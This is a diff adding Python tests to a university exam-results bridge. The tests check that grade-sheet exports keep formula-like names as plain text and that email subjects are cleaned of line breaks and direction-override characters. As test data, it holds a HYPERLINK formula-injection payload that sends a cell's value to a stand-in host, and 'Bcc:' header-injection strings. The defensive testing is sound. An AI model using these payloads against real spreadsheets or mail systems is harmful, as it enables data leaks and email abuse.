@@ -17,7 +17,7 @@ from lms_bridge.config import Secret, SmtpSettings
 from lms_bridge.domain.session import SessionSpec
 from lms_bridge.results.seal import SealRefused, seal_session, send_email
 from lms_bridge.store.db import make_engine, make_sessionmaker
-from lms_bridge.store.models import BallotRecord, DecisionRecord, ExamSession, StudentRecord
+from lms_bridge.store.models import BallotRecord, DecisionRecord, ExamSession, OutboxEmail, StudentRecord
 from lms_bridge.store.repo import import_session
 from lms_bridge.store.schema import ensure_schema
 
@@ -118,3 +118,61 @@ def test_an_outbox_email_goes_out_with_its_attachments(db: Session, tmp_path: Pa
     assert msg["To"] == email.recipient  # type: ignore[index]
     files = [part.get_filename() for part in msg.iter_attachments()]  # type: ignore[attr-defined]
     assert files == [a["filename"] for a in email.attachments]
+
+
+# -- text from people stays text ------------------------------------------------------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Аманов Серік")'
+
+
+def _cells(data: bytes) -> list[Any]:
+    return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
+
+
+def test_a_formula_like_name_is_text_in_the_grade_sheet_and_protocols(db: Session, tmp_path: Path) -> None:
+    session = _decide_everyone(db)
+    student = next(s for s in session.students if s.admitted)
+    student.name = EVIL_NAME
+    member = next(m for m in session.members if m.role == "member")
+    member.name = "=1+1"
+    session.title = "@SUM(1)"  # Excel reads "@", "+", "-" openings as formulas too, once typed as one
+    db.flush()
+    emails = seal_session(db, session, actor="secretary", data_dir=tmp_path)
+    workbooks = [tmp_path / a["path"] for a in emails[0].attachments if a["filename"].endswith(".xlsx")]
+    assert len(workbooks) >= 2
+    seen: set[str] = set()
+    for path in workbooks:
+        for cell in _cells(path.read_bytes()):
+            if isinstance(cell.value, str) and cell.value[:1] in "=@":
+                assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
+                seen.add(cell.value)
+            assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
+    assert EVIL_NAME in seen
+    assert "=1+1" in seen
+    # The student's id keeps its leading zeros as text.
+    sheet = next(p for p in workbooks if p.name.endswith("grade-sheet.xlsx"))
+    refs = [c for c in _cells(sheet.read_bytes()) if c.value == student.student_ref]
+    assert refs
+    assert all(c.data_type == "s" for c in refs)
+
+
+def test_a_title_with_line_breaks_still_makes_sendable_emails(db: Session, tmp_path: Path) -> None:
+    # Stored before titles were checked (or written by something else): the e-mail must still go.
+    session = _decide_everyone(db)
+    session.title = "Кешенді\r\nBcc: everyone@evil.example\u202e " + "ұ" * 600
+    db.flush()
+    email = seal_session(db, session, actor="secretary", data_dir=tmp_path)[0]
+    assert "\n" not in email.subject
+    assert "\r" not in email.subject
+    assert "\u202e" not in email.subject
+    assert len(email.subject) <= OutboxEmail.__table__.c.subject.type.length
+    db.commit()
+    smtp = SmtpSettings(host="smtp.univ.edu.kz", sender="bridge@univ.edu.kz", starttls=False)
+    RecordingSmtp.sent.clear()
+    email.subject = "Old\r\nBcc: x@evil.example"  # an outbox row written before subjects were cleaned
+    send_email(smtp, email, tmp_path, connect=RecordingSmtp)  # type: ignore[arg-type]
+    _calls, msg = RecordingSmtp.sent[0]
+    wire = msg.as_bytes()  # type: ignore[attr-defined]
+    assert b"\nBcc:" not in wire
+    assert msg["Subject"] == "Old Bcc: x@evil.example"  # type: ignore[index]
+    assert msg["Bcc"] is None  # type: ignore[index]
